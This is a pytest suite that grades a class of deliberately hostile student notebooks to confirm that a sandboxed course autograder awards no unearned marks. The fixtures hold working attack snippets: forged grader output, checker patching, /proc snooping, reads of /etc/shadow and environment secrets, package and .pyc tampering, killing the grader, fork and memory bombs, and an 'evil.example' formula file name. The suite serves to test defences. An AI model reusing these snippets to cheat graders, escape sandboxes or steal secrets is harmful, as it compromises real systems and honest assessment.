"""python -m rbcourse grade against a hostile class (issue 27): each hand-in below is the student notebook (or the
solution) with a few cells changed, written as a student who wants marks they did not earn would write them —
one or more per attack: forged results, a patched checker, answers read from the checker's frames, a copied
classmate, a child that outlives its hand-in, an edited classmate, a tampered package (source and .pyc), the
grader killed or stopped, FIFO / /dev/zero / symlink hand-ins, memory, process and output floods, the solution,
the grader's environment and the network read, library calls as answers, loops only while checked, bad names.

The class is graded once (a module fixture, on two workers); each test asserts one property of that run: every
hostile hand-in gets no mark it did not earn, the solution 10/10 and the untouched student notebook 0/10 in the
same run, no process of a hand-in outlives the run, nothing outside the outputs is written, the package is
unchanged, and there is one row per entry of SUBMISSIONS.
"""
import csv
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import unicodedata
import uuid
from pathlib import Path

import pytest
from helpers import processes_with

import rbcourse
from rbcourse.workbook.grading import cgroups, submissions
from rbcourse.workbook.grading.checker import checks

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed: the "
                                "grader refuses to run without its sandbox (CI installs it)")

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "notebooks" / "solutions" / "01_exercise_euler.ipynb"
STUDENT = ROOT / "notebooks" / "01_exercise_euler.ipynb"
PACKAGE = Path(rbcourse.__file__).resolve().parent
CHECKS = [name for name, _ in checks()]
TIMEOUT = 30                   # the cells get 20 s, the checks 10 s (a check 1 s, and what the ones before left)
SIGNATURES = {"box_inertia": "mass, size", "velocity": "P, M", "inverse_inertia": "R, I_body_inv",
              "angular_velocity": "I_inv, L", "resultants": "x, forces", "dxdt": "M, I_body_inv, X, forces",
              "euler_step": "M, I_body_inv, X, forces, dt",
              "simulate": "M, I_body_inv, X0, forces_at, dt, n_steps, step=None", "project_so3": "R",
              "euler_step_projected": "M, I_body_inv, X, forces, dt"}


def _code(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
            "source": source.splitlines(keepends=True)}


def student(*cells, first: str = "") -> str:
    """The student notebook (every function a stub) with `first` run after its imports and `cells` at its end."""
    nb = json.loads(STUDENT.read_text(encoding="utf-8"))
    k = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code")
    if first:
        nb["cells"].insert(k + 1, _code(first))
    nb["cells"] += [_code(c) for c in cells]
    return json.dumps(nb, ensure_ascii=False)


def _with_cells(notebook: str, *cells: str) -> str:
    """The notebook with `cells` added at its end."""
    nb = json.loads(notebook)
    nb["cells"] += [_code(c) for c in cells]
    return json.dumps(nb, ensure_ascii=False)


def every_function(body: str) -> str:
    """A cell defining each graded function as `body` (which may use NAME, the function's name)."""
    return "\n".join(f"def {n}({args}):\n    {body.replace('NAME', repr(n))}\n" for n, args in SIGNATURES.items())


WATCHED = ("workbook/exercises", "workbook/grading", "engine/compiled", "__init__.py")
"""What a hand-in would change to grade the class: the checks, the grader, the shipped machine code, the package's
entry (the rest of the package may be edited by another hand while the test runs; the whole package is mounted
read-only in the sandbox alike)."""


def package_digest() -> str:
    """The watched part of the package as files (sources and their compiled .pyc, machine code), and the names in
    site-packages: any byte changed changes it."""
    h = hashlib.sha256()
    for part in WATCHED:
        for p in sorted([PACKAGE / part] if (PACKAGE / part).is_file() else (PACKAGE / part).rglob("*")):
            if p.is_file() and not p.is_symlink():
                h.update(str(p.relative_to(PACKAGE)).encode() + b"\0" + p.read_bytes())
    site = Path(sys.prefix) / "lib" / "python3.11" / "site-packages"
    h.update("\0".join(sorted(os.listdir(site))).encode() if site.is_dir() else b"")
    return h.hexdigest()


def hostile_class(subs: Path, out: Path, secret: str, port: int, marker: str, flag: Path) -> dict:
    """SUBMISSIONS: every hand-in of the class, by file name -> what it is (honest or the attack)."""
    solution = SOLUTION.read_text(encoding="utf-8")
    zoe = subs / "zoe.ipynb"
    handins = {
        "zoe.ipynb": solution,                                      # the honest solution: 10/10
        "zz_student.ipynb": STUDENT.read_text(encoding="utf-8"),    # the untouched student notebook: 0/10
        # forged results: frames and the old log's lines, written to every descriptor, then the process leaves
        "a01_forger.ipynb": student(first=(
            "import os, json, struct\n"
            "line = json.dumps({'event': 'check', 'phase': 'final', 'name': 'velocity', 'passed': True,\n"
            "                   'mistake': None, 'message': '✓', 'slide': None})\n"
            "fake = json.dumps({'op': 'cells', 'errors': [], 'interrupted': None, 'language': 'en', 'functions': {}})\n"
            "frames = [struct.pack('>I', len(m)) + m.encode() for m in (fake, json.dumps({'op': 'result', 'id': 1,"
            " 'value': {'t': 'float', 'v': 1.0}}))]\n"
            "for fd in range(64):\n"
            "    for data in frames + [(line + '\\n').encode()]:\n"
            "        try:\n            os.write(fd, data)\n        except OSError:\n            pass\n"
            "log = os.environ.get('RBCOURSE_GRADE_LOG')\n"
            "if log:\n    open(log, 'a').write(line + '\\n')\n"
            "os._exit(0)\n")),
        # the checker patched: the checks, the verdict, the loop's judge, and the loop that answers the grader
        "a02_patcher.ipynb": student(first=(
            "import sys\n"
            "from rbcourse.workbook.exercises import verdict, loop, CheckResult\n"
            "forged = lambda *a, **k: CheckResult('any', True, None, '✓ forged')\n"
            "for name in dir(ex):\n"
            "    if name.startswith('check_'):\n"
            "        try:\n            getattr(ex, name).__code__ = (lambda *a, **k: None).__code__\n"
            "        except Exception:\n            pass\n"
            "verdict.judge = forged\nloop._judge_simulate = forged\n"
            "import gc\n"
            "for g in [o.__globals__ for o in gc.get_objects() if getattr(o, '__name__', '') == 'serve'\n"
            "          and hasattr(o, '__globals__')]:          # the process's loop answering the grader: replaced\n"
            "    if 'answer' in g and 'wire' in g:\n"
            "        def answer(channel, message, functions, g=g):\n"
            "            try:\n"
            "                from rbcourse.workbook.exercises import reference\n"
            "                value = getattr(reference, message['name'])(*message['args'])\n"
            "            except Exception:\n"
            "                value = g['wire'].decode(message['args'][0])\n"
            "            return {'op': 'result', 'id': message['id'], 'value': g['wire'].encode(value),\n"
            "                    'args': message['args']}\n"
            "        g['answer'] = answer\n"
            "        print('patched', file=sys.stderr)\n")),
        # answers read from the checker's frames (its case, its expected value)
        "a03_framer.ipynb": student(
            "import sys\n"
            "def peek(name):\n"
            "    f = sys._getframe(1)\n"
            "    while f is not None:\n"
            "        for key, value in f.f_locals.items():\n"
            "            if key == 'case' and hasattr(value, 'expected'):\n                return value.expected\n"
            "            if key in ('expected', 'want'):\n                return value\n"
            "        f = f.f_back\n"
            "    raise LookupError('no checker in this process')\n" + every_function("return peek(NAME)")),
        # a classmate's notebook copied at grading time (its path known, or found in /proc)
        "a04_copier.ipynb": student(
            "import glob, json, os\n"
            f"places = [{str(zoe)!r}] + glob.glob('/proc/*/cwd/*.ipynb') + glob.glob({str(subs / '*.ipynb')!r})\n"
            "for p in glob.glob('/proc/*/cmdline'):\n"
            "    try:\n        places += [a for a in open(p).read().split('\\0') if a.endswith('SUBMISSIONS')]\n"
            "    except OSError:\n        pass\n"
            "for place in places:\n"
            "    try:\n"
            "        for cell in json.load(open(place))['cells']:\n"
            "            if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']):\n"
            "                exec(''.join(cell['source']))\n"
            "    except Exception:\n        pass\n"),
        # a child in a session of its own, to outlive the hand-in and change the others' grades afterwards
        "a05_survivor.ipynb": student(first=(
            "import os, subprocess, sys\n"
            "code = ('import sys, time\\ntime.sleep(3)\\nfor p in sys.argv[2:]:\\n'\n"
            "        '    try:\\n        open(p, \"a\").write(\"forged\")\\n    except Exception:\\n        pass\\n'\n"
            "        'time.sleep(600)\\n')\n"
            f"argv = [sys.executable, '-c', code, {marker!r}, {str(out / 'grades.csv')!r}, {str(zoe)!r}, {str(flag)!r}]\n"
            "subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,\n"
            "                 stderr=subprocess.DEVNULL)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.execv(sys.executable, argv)\n"
            "    os._exit(0)\n")),
        # a classmate's notebook edited, its time stamps put back
        "a06_editor.ipynb": student(first=(
            "import os\n"
            f"path = {str(zoe)!r}\n"
            "st = os.stat(path)\n"
            "text = open(path).read().replace('return P / M', 'return P * M')\n"
            "open(path, 'w').write(text)\n"
            "os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))\n")),
        # the installed package tampered with, for every later hand-in: the source, and a .pyc with its stamp
        "a07_tamperer.ipynb": student(first=(
            "import importlib.util, os, sys, rbcourse\n"
            "from importlib import _bootstrap_external as bx\n"
            "errors = []\n"
            "source = os.path.join(os.path.dirname(rbcourse.__file__), 'workbook', 'exercises', 'verdict.py')\n"
            "forged = 'def judge(spec, fn, cases, accept=None, last_resort=None):\\n    return None\\n'\n"
            "try:\n    open(source, 'a').write('\\n' + forged)\n"
            "except OSError as e:\n    errors.append(e)\n"
            "st = os.stat(source)\n"
            "data = bx._code_to_timestamp_pyc(compile(forged, source, 'exec'), st.st_mtime, st.st_size)\n"
            "for target in (importlib.util.cache_from_source(source),\n"
            "               os.path.join(sys.prefix, 'lib', 'python3.11', 'site-packages', 'zz_forged.pth')):\n"
            "    try:\n        os.makedirs(os.path.dirname(target), exist_ok=True)\n"
            "        open(target, 'wb').write(data)\n"
            "    except OSError as e:\n        errors.append(e)\n"
            "try:\n"
            "    import subprocess\n"
            "    subprocess.run(['unshare', '-r', 'sh', '-c', 'mount -o remount,rw ' + os.path.dirname(source)\n"
            "                    + ' && touch ' + source], timeout=10)\n"
            "except Exception as e:\n    errors.append(e)\n"
            "assert len(errors) >= 3, errors\n")),
        # the grader killed and stopped: its parent, pid 1, every process named like it
        "a08_killer.ipynb": student(
            "import os, signal\n"
            "me = os.getpid()\n"
            "for pid in {os.getppid(), 1}:\n"
            "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
            "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n"
            "for p in os.listdir('/proc'):\n"
            "    if p.isdigit() and int(p) != me:\n"
            "        try:\n"
            "            if b'grade' in open(f'/proc/{p}/cmdline', 'rb').read():\n"
            "                os.kill(int(p), signal.SIGSTOP)\n"
            "        except OSError:\n            pass\n"),
        # memory, processes, files, output: as much as it can take
        "a09_hog.ipynb": student(first="blob = bytearray(4 << 30)\n"),
        "a10_flood.ipynb": student(first=(
            "import os, threading\n"
            "chunk = b'x' * (1 << 20)\n"
            "for _ in range(200):\n    os.write(1, chunk)\n"
            "try:\n    for _ in range(200):\n        os.write(2, chunk)\n"
            "except OSError as e:\n    print(e)\n"
            "try:\n    with open('/tmp/fill', 'wb') as f:\n        for _ in range(1024):\n            f.write(chunk)\n"
            "except OSError as e:\n    print(e)\n"
            "pids = []\n"
            "try:\n    for _ in range(100000):\n        pid = os.fork()\n"
            "        if pid == 0:\n            import time\n            time.sleep(60)\n            os._exit(0)\n"
            "        pids.append(pid)\n"
            "except OSError as e:\n    print(len(pids), e)\n"
            "assert len(pids) < 100, len(pids)\n")),
        # memory again, in processes of their own: four children of 768 MiB, each saying when it holds its block
        "a16_bomb.ipynb": student(first=(
            "import os, select, signal, struct, time\n"
            "r, w = os.pipe()\n"
            "children = []\n"
            "for _ in range(4):\n"
            "    pid = os.fork()\n"
            "    if pid == 0:\n"
            "        block = bytearray(768 << 20)\n"
            "        block[::4096] = b'x' * len(block[::4096])\n"
            "        os.write(w, struct.pack('i', os.getpid()))\n"
            "        time.sleep(60)\n"
            "    children.append(pid)\n"
            "holding, dead, most, end = set(), set(), 0, time.monotonic() + 6\n"
            "while time.monotonic() < end:\n"
            "    if select.select([r], [], [], 0.05)[0]:\n"
            "        data = os.read(r, 64)\n"
            "        holding |= set(struct.unpack(f'{len(data) // 4}i', data))\n"
            "    dead |= {pid for pid in set(children) - dead if os.waitpid(pid, os.WNOHANG)[0]}\n"
            "    most = max(most, len(holding - dead))\n"
            "for pid in set(children) - dead:\n"
            "    os.kill(pid, signal.SIGKILL)\n"
            "raise RuntimeError(f'held {most} blocks of 768 MiB at once')\n")),
        # the solution, SUBMISSIONS, the outputs, the grader's environment and the network, read
        "a11_spy.ipynb": student(first=(
            "import glob, os, socket, rbcourse\n"
            "leaks = []\n"
            f"for p in [{str(SOLUTION)!r}, {str(subs)!r}, {str(out)!r}, '/etc/shadow', '/root/.bash_history',\n"
            "          os.path.join(os.path.dirname(rbcourse.__file__), '..', 'notebooks', 'solutions')]:\n"
            "    try:\n"
            "        leaks.append(f'{p}: {str(os.listdir(p) if os.path.isdir(p) else open(p).read())[:60]}')\n"
            "    except OSError:\n        pass\n"
            "for p in glob.glob('/proc/*/environ'):\n"
            "    try:\n"
            "        if b'SECRET' in open(p, 'rb').read():\n            leaks.append(open(p, 'rb').read()[:300])\n"
            "    except OSError:\n        pass\n"
            "leaks += [f'{k}={v}' for k, v in os.environ.items() if 'SECRET' in k]\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'LEAKED')\n"
            "    leaks.append('the network')\n"
            "except OSError:\n    pass\n"
            "if leaks:\n    raise RuntimeError('LEAKED ' + ' ; '.join(map(str, leaks)))\n")),
        # the library's own implementation as answers: named, imported, through a helper, built at run time
        "a12_lazy.ipynb": student(
            "import importlib\n"
            "import rbcourse as rb\n"
            "from rbcourse.state import inverse_inertia as engine_inverse_inertia\n"
            "from rbcourse.workbook.exercises import reference as ref\n"
            "hidden = 'rbc' + 'ourse.workbook.exercises.reference'\n"
            "def box_inertia(mass, size):\n    return rb.RigidBody.box(mass, size).I_body\n"
            "def velocity(P, M):\n    return ref.dxdt(M, np.eye(3), (np.zeros(3), np.eye(3), P, np.zeros(3)), [])[0]\n"
            "def inverse_inertia(R, I_body_inv):\n    return engine_inverse_inertia(R, I_body_inv)\n"
            "def angular_velocity(I_inv, L):\n    return I_inv @ L\n"
            "def helper(x, forces):\n    return importlib.import_module(hidden).resultants(x, forces)\n"
            "def resultants(x, forces):\n    return helper(x, forces)\n"
            "def dxdt(M, I_body_inv, X, forces):\n    return ref.dxdt(M, I_body_inv, X, forces)\n"
            "exec('def euler_step(M, I_body_inv, X, forces, dt):\\n'\n"
            "     '    return __import__(hidden, fromlist=[\"x\"]).euler_step(M, I_body_inv, X, forces, dt)')\n"
            "def simulate(M, I_body_inv, X0, forces_at, dt, n_steps, step=None):\n"
            "    return ref.simulate(M, I_body_inv, X0, forces_at, dt, n_steps, step)\n"
            "def project_so3(R):\n    from rbcourse.rotation import project_so3 as p\n    return p(R)\n"
            "def euler_step_projected(M, I_body_inv, X, forces, dt):\n"
            "    return importlib.import_module(hidden).euler_step_projected(M, I_body_inv, X, forces, dt)\n"),
        # right in the notebook, an endless loop only when the grader calls: once interruptible, once not
        "a13_sneaky.ipynb": student(
            "def velocity(P, M):\n    while GRADED:\n        pass\n    return P / M\nGRADED = False",
            "ex.check_velocity(velocity)\nGRADED = True"),
        "a14_stubborn.ipynb": student(
            "def velocity(P, M):\n    while GRADED:\n        try:\n            while True:\n                pass\n"
            "        except BaseException:\n            pass\n    return P / M\nGRADED = False",
            "ex.check_velocity(velocity)\nGRADED = True"),
        # the reference step the simulate check lends the student's loop, kept to answer another check
        "a15_oracle.ipynb": student(
            "LENT = []\n"
            "def simulate(M, I_body_inv, X0, forces_at, dt, n_steps, step=None):\n"
            "    LENT.append(step)\n"
            "    X = step(M, I_body_inv, X0, forces_at(0.0, X0), dt)\n"
            "    return tuple(np.array([a] * (n_steps + 1)) for a in X)\n"
            "def euler_step_projected(M, I_body_inv, X, forces, dt):\n"
            "    return LENT[-1](M, I_body_inv, X, forces, dt)\n"),
        # a simulate that hands the check's forces_at 4 MB arrays again and again (the check keeps what it is given)
        "a17_flood_args.ipynb": student(
            "def simulate(M, I_body_inv, X0, forces_at, dt, n_steps, step=None):\n"
            "    big = np.ones(500_000)\n"
            "    for _ in range(200):\n"
            "        try:\n            forces_at(0.0, (big, big, big, big))\n"
            "        except Exception:\n            pass\n"
            "    return X0\n"),
        # a channel between its two runs: the run with the library holds a lock on a file both see; the checked run
        # answers right only if it finds it held (the runs are one after the other, and a lock is refused anyway)
        "a18_channel.ipynb": student(
            "import fcntl, time\n"
            "try:\n    import rbcourse\n    WITH_LIBRARY = True\nexcept Exception:\n    WITH_LIBRARY = False\n"
            "f = open('/usr/bin/env', 'rb')\n"
            "if WITH_LIBRARY:\n"
            "    try:\n        fcntl.flock(f, fcntl.LOCK_EX)\n        time.sleep(5)\n    except OSError:\n        pass\n"
            "try:\n    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)\n    HELD = False\n"
            "except BlockingIOError:\n    HELD = True\nexcept OSError:\n    HELD = False\n"
            "def velocity(P, M):\n    return P / M if HELD else P * M\n"),
        # an honest solution with 500 shell lines in a cell: the functions earn their marks
        "c_shell_lines.ipynb": _with_cells(solution, "\n".join(["!true"] * 500)),
        # an honest solution with a 5 MB list in a cell: the cell is not run (said), the functions earn their marks
        "c_huge_cell.ipynb": _with_cells(solution, "data = [" + "1.25, " * 830_000 + "]\n"),
        # an honest solution with 8 MB of comments in the cell of its last function: run, every mark earned
        "c_huge_comments.ipynb": _with_cells(solution, "def velocity(P, M):\n    return P / M\n"
                                             + ("# " + "x" * 78 + "\n") * 100_000),
        # an honest solution whose own error message names rbcourse (a word, not a use): it earns its marks, and
        # so do the functions that call it (dxdt, euler_step, …)
        "c_honest_words.ipynb": _with_cells(solution, (
            "def velocity(P, M):\n"
            "    if not M > 0:\n"
            "        raise ValueError(f'M must be positive (my own check, not rbcourse.velocity), got {M}')\n"
            "    return P / M\n")),
        # honest solutions under names a spreadsheet or a file system would misread: they earn their marks
        '=HYPERLINK("evil.example","free marks").ipynb': solution,
        "@SUM(1+1).ipynb": solution,
        "Upper.IPYNB": solution,
        unicodedata.normalize("NFC", "é") + ".ipynb": solution,
        unicodedata.normalize("NFD", "é") + ".ipynb": solution,
        ".dotted.ipynb": solution,
        "c_" + "é" * 119 + ".ipynb": solution,                  # 246 bytes: its feedback's name is cut to fit
        "y" * 249 + ".ipynb": solution,                         # 255 bytes, the file system's limit
        "b_notes.txt": "not a notebook",
        "b_latin1.ipynb": b"{\"cells\": [], \"x\": \"caf\xe9\"}",
        "b_notjson.ipynb": "{ this is not json",
    }
    for name, content in handins.items():
        (subs / name).write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    os.mkfifo(subs / "b_fifo.ipynb")                                          # would block a reader forever
    (subs / "b_zero.ipynb").symlink_to("/dev/zero")                           # endless bytes
    (subs / "b_link.ipynb").symlink_to(zoe)                                   # a classmate's, by a link
    (subs / "b_two").mkdir()
    (subs / "b_two" / "one.ipynb").write_text(solution, encoding="utf-8")
    (subs / "b_two" / "two.ipynb").write_text(solution, encoding="utf-8")
    # honest folders of the shapes a class hands in: a name at the limit, a notebook deep down, a data folder
    (subs / ("x" * 255)).mkdir()
    (subs / ("x" * 255) / "work.ipynb").write_text(solution, encoding="utf-8")
    deep = subs / "c_deep" / "/".join("d" * 10)
    deep.mkdir(parents=True)
    (deep / "work.ipynb").write_text(solution, encoding="utf-8")
    (subs / "c_data" / "data").mkdir(parents=True)
    (subs / "c_data" / "work.ipynb").write_text(solution, encoding="utf-8")
    for k in range(20_001):                                   # more files than SUBMISSIONS once allowed in all
        (subs / "c_data" / "data" / f"{k}.csv").touch()
    (subs / "b_none").mkdir()
    (subs / "b_none" / "notes.txt").write_text("no notebook here")
    (subs / "b_inner").mkdir()
    os.mkfifo(subs / "b_inner" / "nb.ipynb")
    with open(subs / "b_huge.ipynb", "wb") as f:                              # 40 MB, sparse
        f.truncate(40 << 20)
    return handins


class Listener:
    """A TCP server on 127.0.0.1 that notes every connection (no hand-in may reach it)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.connections, self.stop = self.server.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                self.server.accept()[0].close()
                self.connections += 1
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile class graded once: the rows by student (several rows of one name: a list), the feedback, and
    what the test saw around the run."""
    root = tmp_path_factory.mktemp("hostile")
    subs, out, scratch = root / "SUBMISSIONS", root / "grades", root / "scratch"
    for folder in (subs, scratch):
        folder.mkdir()
    secret, marker = f"secret-{uuid.uuid4().hex}", f"rbcourse-survivor-{uuid.uuid4().hex}"
    listener = Listener()
    handins = hostile_class(subs, out, secret, listener.port, marker, root / "flag")
    entries = sorted(os.listdir(subs))
    before, package = submissions.fingerprint(subs), package_digest()
    try:
        run = subprocess.run([sys.executable, "-m", "rbcourse", "grade", str(subs), "--seed", "0", "--out", str(out / "grades.csv"),
                              "--timeout", str(TIMEOUT), "--workers", "2"], capture_output=True, text=True,
                             timeout=900, env={**os.environ, "RBCOURSE_QUICK": "1", "TMPDIR": str(scratch),
                                               "RBCOURSE_HOSTILE_SECRET": secret})
    finally:
        listener.close()
    survivors = processes_with(marker)
    with open(out / "grades.csv", encoding="utf-8", newline="") as f:
        raw = f.read()
    rows: dict = {}
    for r in csv.DictReader(raw.splitlines()):
        rows.setdefault(r["student"], []).append(r)
    rows = {k: v[0] if len(v) == 1 else v for k, v in rows.items()}
    feedback = {p.name: p.read_text(encoding="utf-8") for p in (out / "feedback").iterdir()}
    return {"run": run, "rows": rows, "raw": raw, "feedback": feedback, "subs": subs, "out": out,
            "scratch": scratch, "root": root, "secret": secret, "listener": listener, "survivors": survivors,
            "before": before, "after": submissions.fingerprint(subs), "package": (package, package_digest()),
            "entries": entries, "handins": handins}


def _passed(row) -> int:
    return int(row["passed"].lstrip("'"))


def test_the_run_ends_with_one_row_per_entry_of_submissions(hostile):
    run = hostile["run"]
    assert run.returncode == 0, run.stderr[-3000:]
    body = list(csv.reader(hostile["raw"].splitlines()))[1:]
    assert len(body) == len(hostile["entries"]) == 45
    assert f"graded {len(body)} hand-ins" in run.stdout


@pytest.mark.parametrize("name", ["x" * 255, "c_" + "é" * 119, "y" * 249, "c_deep", "c_data"])
def test_long_names_deep_folders_and_many_files_are_graded_with_their_feedback(hostile, name):
    """A name at the file system's 255 bytes, a notebook ten folders down, a folder with 20,001 data files: each is
    graded as any other hand-in (its row, 10/10) and has its feedback file (a long name cut, with a digest)."""
    row = hostile["rows"][unicodedata.normalize("NFC", name)]
    assert row["status"] == "ok" and _passed(row) == 10, {k: v for k, v in row.items() if k != "student"}
    assert any(f.startswith(name[:40]) and len(f.encode()) <= 255 for f in hostile["feedback"]), name[:40]


def test_500_shell_lines_in_a_cell_cost_no_marks(hostile):
    """IPython itself refuses a cell of 500 magic lines (as Jupyter does): that cell's error, said; the grader reads
    it in one pass (library.python_of) and the functions keep their marks."""
    row = hostile["rows"]["c_shell_lines"]
    assert _passed(row) == 10 and row["status"] == "error", row
    assert "code cell 35 (!true): RuntimeError: Input transformation still changing after 500 iterations" in row["note"]


def test_a_huge_cell_is_not_run_and_said_and_the_functions_keep_their_marks(hostile):
    row = hostile["rows"]["c_huge_cell"]
    assert _passed(row) == 10 and row["status"] == "error", row
    assert "not run: 4,980,009 characters of code (a code cell of at most 4,194,304, comments aside, is run)" \
        in row["note"], row["note"]
    comments = hostile["rows"]["c_huge_comments"]            # comments are no code: run, its velocity checked
    assert _passed(comments) == 10 and comments["status"] == "ok", comments


def test_the_solution_gets_10_and_the_student_notebook_0_in_the_same_run(hostile):
    zoe, stu = hostile["rows"]["zoe"], hostile["rows"]["zz_student"]
    assert zoe["status"] == "ok" and zoe["note"] == "" and _passed(zoe) == 10
    words = hostile["rows"]["c_honest_words"]        # "rbcourse" in its own error message: a word, not a use
    assert words["status"] == "ok" and _passed(words) == 10 and "library_call" not in words.values(), words
    assert stu["status"] == "ok" and _passed(stu) == 0 and all(stu[c] == "not-done" for c in CHECKS)


EARNED = {"a12_lazy": 1}      # angular_velocity, written by hand: the rest of a12 is the library's


@pytest.mark.parametrize("name", ["a01_forger", "a02_patcher", "a03_framer", "a04_copier", "a05_survivor",
                                  "a06_editor", "a07_tamperer", "a08_killer", "a09_hog", "a10_flood", "a11_spy",
                                  "a12_lazy", "a13_sneaky", "a14_stubborn", "a15_oracle", "a16_bomb",
                                  "a17_flood_args", "a18_channel"])
def test_no_hostile_hand_in_gets_a_mark_it_did_not_earn(hostile, name):
    row = hostile["rows"][name]
    assert _passed(row) == EARNED.get(name, 0), row


def test_forged_results_are_not_read(hostile):
    """Its forged frames are read as its notebook's report (what its process says of itself: no error, no
    function): its status is its own word, but no check passes."""
    row = hostile["rows"]["a01_forger"]
    assert all(row[c] in ("not-done", "not-run") for c in CHECKS), row


def test_a_patched_checker_changes_nothing(hostile):
    """Its checks, the verdicts and the loop that answers the grader replaced in its process: each answer is then
    an argument sent back (the library is not there), a wrong result."""
    row = hostile["rows"]["a02_patcher"]
    assert not any(row[c] == "passed" for c in CHECKS), row


def test_the_reference_lent_to_the_loop_answers_no_other_check(hostile):
    """The simulate check, which lends the loop a reference step, runs last: nothing can replay that step."""
    row = hostile["rows"]["a15_oracle"]
    assert row["euler_step_projected"] == "crashed" and row["simulate"] != "passed", row


def test_the_checker_is_not_in_the_students_process(hostile):
    row = hostile["rows"]["a03_framer"]
    assert all(row[c] == "crashed" for c in CHECKS), row
    assert "LookupError: no checker in this process" in hostile["feedback"]["a03_framer.md"]


def test_library_calls_are_not_answers(hostile):
    row, text = hostile["rows"]["a12_lazy"], hostile["feedback"]["a12_lazy.md"]
    assert row["angular_velocity"] == "passed"
    assert all(row[c] == "library_call" for c in CHECKS if c != "angular_velocity"), row
    assert "✗ box_inertia: it takes its answer from rbcourse (rb.RigidBody.box)" in text
    assert "✗ inverse_inertia: it takes its answer from rbcourse (rbcourse.state.inverse_inertia)" in text
    assert "✗ resultants: it takes its answer from rbcourse (rbcourse.workbook.exercises.reference.resultants)" in text
    assert "(rbcourse.workbook.exercises.reference.euler_step)" in text          # built at run time, seen running


def test_a_function_that_loops_only_when_graded_is_timed_out(hostile):
    for name in ("a13_sneaky", "a14_stubborn"):
        row = hostile["rows"][name]
        assert row["status"] == "timeout" and row["velocity"] == "timed-out", row
        assert "still running at its time limit: velocity (timed-out)" in row["note"]
    assert hostile["rows"]["a13_sneaky"]["box_inertia"] == "not-done"          # checked on: the loop was stopped
    stubborn = hostile["rows"]["a14_stubborn"]                                  # not stopped: its process is killed
    assert all(stubborn[c] == "not-run" for c in CHECKS[2:])
    assert "did not stop its function at its time limit" in stubborn["note"]


def test_no_process_of_a_hand_in_outlives_the_run(hostile):
    assert hostile["survivors"] == []
    assert not (hostile["root"] / "flag").exists()
    assert not any("still alive" in str(r) for r in hostile["rows"].values())


def test_nothing_outside_the_outputs_is_written(hostile):
    assert hostile["after"] == hostile["before"]                               # SUBMISSIONS: every byte, every link
    assert "SUBMISSIONS changed" not in hostile["run"].stderr
    assert sorted(p.name for p in hostile["out"].iterdir()) == ["feedback", "grades.csv"]
    assert list(hostile["scratch"].iterdir()) == []                            # the grader's temporary folders
    assert "forged" not in hostile["raw"]


def test_the_package_is_unchanged(hostile):
    before, after = hostile["package"]
    assert before == after
    site = Path(sys.prefix) / "lib" / "python3.11" / "site-packages" / "zz_forged.pth"
    assert not site.exists()
    assert hostile["rows"]["a07_tamperer"]["status"] == "ok"                  # each write was refused (asserted in it)


def test_the_grader_was_neither_killed_nor_stopped(hostile):
    row = hostile["rows"]["a08_killer"]
    assert hostile["run"].returncode == 0 and row["status"] == "ok" and _passed(row) == 0


def test_floods_are_stopped_by_the_limits(hostile):
    assert "MemoryError" in hostile["rows"]["a09_hog"]["note"]
    flood = hostile["rows"]["a10_flood"]
    assert flood["status"] == "ok", flood                                      # its own asserts held: < 100 processes


def test_a_sandbox_holds_at_most_its_memory_in_all(hostile):
    """Four children of 768 MiB each: where the kernel's control groups can be used (as root here and in CI), the
    sandbox holds at most 2 GiB at once (two blocks), the others are killed; elsewhere each process is limited
    alone."""
    note = hostile["rows"]["a16_bomb"]["note"]
    held = int(note.split("held ")[1].split(" blocks")[0])
    groups = cgroups.made(1 << 20, 8)
    cgroups.remove(groups)
    assert held <= (2 if groups else 4), note


def test_nothing_is_read_or_reached_outside_the_sandbox(hostile):
    assert hostile["listener"].connections == 0
    assert hostile["rows"]["a11_spy"]["status"] == "ok", hostile["rows"]["a11_spy"]["note"]   # nothing to leak
    everything = hostile["raw"] + "".join(hostile["feedback"].values()) + hostile["run"].stdout + hostile["run"].stderr
    assert "LEAKED" not in everything and hostile["secret"] not in everything
    copier = hostile["rows"]["a04_copier"]
    assert all(copier[c] == "not-done" for c in CHECKS), copier


def test_a_classmates_notebook_cannot_be_edited(hostile):
    assert "FileNotFoundError" in hostile["rows"]["a06_editor"]["note"]
    assert _passed(hostile["rows"]["zoe"]) == 10


def test_bad_names_are_rows_and_never_formulas(hostile):
    rows, raw = hostile["rows"], hostile["raw"]
    for cells in list(csv.reader(raw.splitlines()))[1:]:
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    link = rows["'=HYPERLINK(\"evil.example\",\"free marks\")"]
    assert link["status"] == "ok" and _passed(link) == 10                      # honest: it earns its marks
    assert _passed(rows["'@SUM(1+1)"]) == 10 and _passed(rows["Upper"]) == 10
    # two names alike once NFC: each its row, told apart by its name on disk, and its feedback file
    same = [rows["é '\\xe9.ipynb'"], rows["é 'e\\u0301.ipynb'"]]
    assert all(r["status"] == "invalid" and "NFC" in r["note"] for r in same)
    assert {"é '\\xe9.ipynb'.md", "é 'e\\u0301.ipynb'.md"} <= set(hostile["feedback"])
    assert rows[".dotted"]["status"] == "invalid" and "hidden" in rows[".dotted"]["note"]
